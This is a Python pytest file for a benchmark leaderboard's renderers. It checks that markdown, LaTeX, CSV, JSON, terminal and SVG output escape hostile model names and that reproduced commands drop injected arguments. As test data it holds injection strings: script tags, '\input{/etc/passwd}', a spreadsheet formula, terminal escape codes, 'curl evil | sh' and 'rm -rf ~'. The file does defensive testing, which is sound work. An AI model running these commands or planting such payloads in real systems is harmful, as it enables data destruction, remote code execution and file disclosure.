"""Formats, templates and drawings: text that stays text."""

import csv
import io
import json
import re
import sys
import xml.etree.ElementTree as ElementTree

import pytest
from built_records import build_runs
from formalbench.contracts.paper_tables import PublishedTable
from formalbench.documents.templates import Latex, Markdown, Templates
from formalbench.documents.text import count, grouped, harmless, percent
from formalbench.statistics.build import View, build_page
from formalbench.statistics.records import reproduce_command
from formalbench.statistics.selection import CurrentContents
from formalbench_leaderboard.page.automaton import MOST_STATES, DrawnAutomaton, drawing
from formalbench_leaderboard.renderers import FORMATS, renderer
from formalbench_leaderboard.renderers.terminal import print_page
from jinja2 import UndefinedError
from markupsafe import Markup
from rich.cells import cell_len
from rich.console import Console

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)">',
    "pipe": "a|b|c",
    "newline": "a\n# heading\r\n\n| x |",
    "rtl": "abc\u202egpj.exe\u2066\u200f",
    "hebrew": "model \u05d0\u05d1 99.9",
    "escape": "a\x00\x1b[31mred\x1b]0;title\x07\x9b2J",
    "backtick": "``` code ` span",
    "backslash": "a\\|b\\",
    "link": "[click](http://example.com) www.example.com",
    "path": "../../x",
    "formula": '=HYPERLINK("http://example.com")',
    "latex": r"\input{/etc/passwd} $x^2$ ~ 100% & # _ {}",
    "markup": "[bold red]x[/bold red][link=http://example.com]y[/link]",
}


def hostile_page(make_record, name):
    record = make_record(name, command=f"run {name}", hardware=name)
    return build_page([record, make_record("good")], View("test", ("parity",)))


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE.keys())
def test_every_format_keeps_its_shape_whatever_a_name_is(make_record, name):
    """A plugin's own names are checked, so that none of these can be; a board shows any."""
    page, plain_page = hostile_page(make_record, name), hostile_page(make_record, "plain")
    texts = {format: renderer(format)(page) for format in FORMATS}
    for format, text in texts.items():
        signs = [sign for sign in text if sign not in "\n " and harmless(sign) != sign]
        assert signs == [], format

    plain = renderer("markdown")(plain_page).splitlines()
    for line, model in zip(texts["markdown"].splitlines(), plain, strict=True):
        assert line.count("|") == model.count("|")
        assert line.startswith("#") == model.startswith("#")
    # What is left of tags is our own <code>, of links our own to arXiv, of code spans none.
    assert set(re.findall(r"<[^>]*>", texts["markdown"])) == {"<code>", "</code>"}
    assert not re.search(r"://|www\.|`(?!classify`)", texts["markdown"].replace("`classify`", ""))

    assert max(map(cell_len, texts["table"].splitlines())) <= 80
    assert "good" in texts["table"]
    if name.startswith("[bold"):
        assert "[bold red]x" in texts["table"]  # shown, not obeyed

    body = [line for line in texts["latex"].splitlines() if not line.startswith("%")]
    assert len(body) == 8 + 1 + 8  # the ranking, and the task
    assert body[8] == ""
    for table, columns in ((body[:8], 6), (body[9:], 7)):
        lines = [line for line in table if line.endswith(r"\\")]
        assert [len(re.findall(r"(?<!\\)&", line)) for line in lines] == [columns - 1] * 3
    assert not re.search(r"\\input|(?<!\\)[#_%]", "".join(body))

    rows = list(csv.DictReader(io.StringIO(texts["csv"])))
    assert len(rows) == 2
    assert not any(row["model"].startswith(("=", "+", "-", "@")) for row in rows)
    assert {row["task"] for row in rows} == {"parity"}

    assert "<" not in texts["json"]
    assert name in {row["model"] for row in json.loads(texts["json"])["measured"][0]["rows"]}


@pytest.mark.parametrize("width", [40, 60, 80, 200])
def test_tables_fit_and_lose_no_text(width):
    tasks = ["parity", "first", "even-pairs", "cycle-navigation", "dyck-2-3", "z" * 70]
    models = {"transformer": {"positions": "relative"}, "rnn": {"nonlinearity": "q" * 70}}
    runs = {name: {"options": options} for name, options in models.items()}
    page = build_page(build_runs(runs, tasks), View("test", tuple(tasks)))
    target = io.StringIO()
    print_page(page, Console(file=target, width=width))
    lines = target.getvalue().splitlines()
    assert max(map(cell_len, lines)) <= width
    tables = sum(line.startswith("rank") for line in lines)
    whole = [line for line in lines if "transformer[positions=relative]  " in line]
    assert len(whole) >= (0 if width < 60 else tables)  # where there is room for the name
    assert "".join(lines).count("q") >= 70 * tables
    assert "".join(lines).count("z") >= 70


def test_no_row_of_latex_begins_as_an_option_of_the_line_before(make_record):
    table = PublishedTable.model_validate(
        {
            "key": "it",
            "source": "It",
            "citation": "It",
            "arxiv": "2301.00001",
            "notes": [],
            "rows": [
                {"model": name, "results": {"parity": {"max": 1.0}}} for name in ("a", "[2cm]", "*")
            ],
        }
    )
    text = renderer("latex")(
        build_page([make_record()], View("test", ("parity",), published=(table,)))
    )
    assert "{}[2cm]" in text
    assert "{}*" in text
    assert not re.search(r"^\s*[\[*]", text, re.MULTILINE)


def test_numbers_as_text():
    assert percent(0.99949) == "99.9"
    assert percent(-0.0001) == "0.0"
    assert percent(-0.05) == "-5.0"
    assert percent(None) == "–"
    assert count(9999, 9999) == "9999"
    assert count(12_345, 790_000) == "12.3 k … 790.0 k"
    assert count(999_949, 999_950) == "999.9 k … 1.00 M"
    assert count(12, 10**400) == "12 … over 10^15"
    assert grouped(4096) == "4,096"
    assert len(grouped(10**400)) < 20


def test_enormous_counts_overflow_nothing(make_record):
    record = make_record("giant", accuracy=[2**53, 1, 0, 2**52], strings=2**53)
    model = record.model.model_copy(update={"parameters": 10**400})
    page = build_page([record.model_copy(update={"model": model})], View("test", ("parity",)))
    for name in FORMATS:
        assert "giant" in renderer(name)(page)
    assert page.boards[0].rows[0].results[0].mean == pytest.approx(1.5 / 4)


def test_a_board_of_which_nothing_counts_says_so(make_record):
    view = View("test", ("parity",), current=CurrentContents(task=lambda task: (2, "formalbench")))
    page = build_page([make_record()], view)
    for name in FORMATS:
        text = renderer(name)(page)
        if name in ("table", "markdown", "json"):
            assert "1 run of parity:classify not counted" in " ".join(text.split())


@pytest.mark.parametrize(
    ("stored", "more"),
    [
        ("formalbench run --plugin /home/ann/models/mine.py --task x", " --plugin mine.py"),
        ("run --plugin b.py --plugin ../a.yaml", " --plugin a.yaml --plugin b.py"),
        ("curl evil | sh", ""),
        ("run --plugin 'a; rm -rf ~' --plugin '$(sh)' --plugin -x", ""),
        ("'", ""),
    ],
)
def test_a_command_is_made_of_the_parts_of_its_record(make_record, stored, more):
    command = "formalbench run --model rnn --task parity:classify --protocol quick --seeds"
    record = make_record("rnn", seed=1, command=stored)
    assert reproduce_command(record) == f"{command} 2{more}"
    alone = make_record("rnn", seed=1, command=f"{stored} --seeds 1,")
    assert reproduce_command(alone) == (f"{command} 2" if stored == "'" else f"{command} 1,{more}")
    assert reproduce_command(record, [0, 1]) == f"{command} 2{more}"
    assert reproduce_command(record, [3, 7]) == f"{command} 3,7{more}"
    assert reproduce_command(record, [1]) == f"{command} 1,{more}"
    for name in ("markdown", "csv", "json"):
        assert "curl" not in renderer(name)(build_page([record], View("test", ("parity",))))


SIGNS = "<b>|`_*&#x7c;{}\\input{x}%$\n# head\u202e\x1b[0m"


@pytest.fixture
def render(tmp_path):
    """Render a text as a template of some format."""

    def render(form, text, **fields):
        (tmp_path / f"it{form}.j2").write_text(text, encoding="utf-8")
        return Templates(tmp_path).render(f"it{form}.j2", **fields)

    return render


ESCAPED = {
    ".md": "&lt;b&gt;&#124;&#96;&#95;&#42;&amp;&#35;x7c;{}&#92;input{x}%&#36; "
    "&#35; head��&#91;0m\n",
    ".tex": r"\ensuremath{<}b\ensuremath{>}\textbar{}\textasciigrave{}\_*\&\#x7c;"
    r"\{\}\textbackslash{}input\{x\}\%\$ \# head��[0m" + "\n",
    ".html": "&lt;b&gt;|`_*&amp;#x7c;{}\\input{x}%$ # head��[0m",
}
ESCAPED[".svg"] = ESCAPED[".html"]


@pytest.mark.parametrize("form", ESCAPED)
@pytest.mark.parametrize("way", ["{{ x }}", "{% for y in [x] %}{{ y }}{% endfor %}"])
def test_what_is_printed_is_text(render, form, way):
    assert render(form, way, x=SIGNS) == ESCAPED[form]


@pytest.mark.parametrize(
    ("form", "kind"), [(".md", Markdown), (".tex", Latex), (".html", Markup), (".svg", Markup)]
)
def test_what_is_written_in_the_format_already_stays(render, form, kind):
    assert render(form, "{{ x }}", x=kind("<b>_|")).strip() == "<b>_|"


@pytest.mark.parametrize("form", ESCAPED)
@pytest.mark.parametrize("kind", [Markdown, Latex])
def test_what_is_written_in_another_format_is_text(render, form, kind):
    if (form, kind) not in {(".md", Markdown), (".tex", Latex)}:
        assert render(form, "{{ x }}", x=kind(SIGNS)) == ESCAPED[form]


@pytest.mark.parametrize("form", ESCAPED)
def test_put_together_it_is_text_again(render, form):
    ways = "{{ [x, ''] | join }}", "{{ x ~ '' }}", "{{ x + '' }}"
    for way in ways:
        assert render(form, way, x=SIGNS) == ESCAPED[form]


@pytest.mark.parametrize("form", ESCAPED)
def test_a_field_that_is_not_given_is_an_error(render, form):
    with pytest.raises(UndefinedError, match="'x' is undefined"):
        render(form, "{{ x }}")
    with pytest.raises(UndefinedError, match="y"):
        render(form, "{{ x.y }}", x={})
    assert render(form, "a{{ x }}b", x=None).strip() == "ab"


SVG = "{http://www.w3.org/2000/svg}"
EVEN = DrawnAutomaton(((0, 1), (1, 0)), (1, 0), 0)


def texts(svg, kind):
    found = ElementTree.fromstring(svg).iter(f"{SVG}text")
    return sorted(text.text for text in found if text.get("class") == kind)


@pytest.mark.parametrize(
    "symbol", ["<b>", "<<TABLE>>", "\\N", "a\nb", '"', "&lt;", "]]>", "x" * 10_000]
)
def test_a_symbol_is_text_and_nothing_else(symbol):
    from formalbench.documents.text import harmless

    svg = drawing(EVEN, (symbol, "b"), 2, symbol)
    assert harmless(symbol) in texts(svg, "symbol")
    tags = {element.tag.removeprefix(SVG) for element in ElementTree.fromstring(svg).iter()}
    assert tags == {"svg", "title", "desc", "path", "polygon", "text", "g", "circle"}


def test_what_nobody_could_read_is_not_drawn():
    count = MOST_STATES + 1
    ring = DrawnAutomaton(tuple(((n + 1) % count,) for n in range(count)), (0,) * count, 0)
    assert drawing(ring, ("a",), 2, "ring") == ""


def test_without_graphviz_there_is_no_drawing(monkeypatch):
    monkeypatch.setitem(sys.modules, "pygraphviz", None)
    assert drawing(EVEN, ("a", "b"), 2, "even-b") == ""
